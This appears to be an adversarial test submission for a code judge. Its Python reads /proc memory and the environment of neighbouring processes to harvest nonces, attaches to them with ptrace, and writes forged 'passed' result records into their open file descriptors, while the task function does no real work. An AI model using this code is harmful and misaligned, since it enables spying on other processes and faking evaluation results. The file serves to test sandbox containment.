#| what = "Reads and writes the memory and the descriptors of every other process, the tester's above all"
#| covers = ["/proc/self/mem", "inherited channel", "forged result"]
#| verdict = ["wrong_answer", "runtime_error"]
#| test = "function"
#| function = "ordered"
import ctypes
import glob
import json
import os
import re


def others():
    nearby = range(os.getpid() - 50, os.getpid() + 50)
    return [str(pid) for pid in (1, os.getppid(), *nearby) if pid not in (0, os.getpid())]


def search():
    found = {""}
    for pid in others():
        for name in ("mem", "environ", "cmdline", "auxv"):
            try:
                with open("/proc/%s/%s" % (pid, name), "rb", 0) as file:
                    found.update(re.findall("[0-9a-f]{32}", file.read(1 << 20).decode("latin-1")))
            except (OSError, ValueError, OverflowError):
                continue
    return found


def ordered(numbers):
    libc = ctypes.CDLL(None, use_errno=True)
    records = [json.dumps({"nonce": nonce, "state": "passed", "message": ""}) for nonce in search()]
    text = ("\n".join(records) + "\n").encode()
    for pid in others():
        libc.ptrace(16, int(pid), 0, 0)
        for path in glob.glob("/proc/%s/fd/*" % pid):
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(fd, text)
            except OSError:
                pass
            finally:
                os.close(fd)
    return numbers
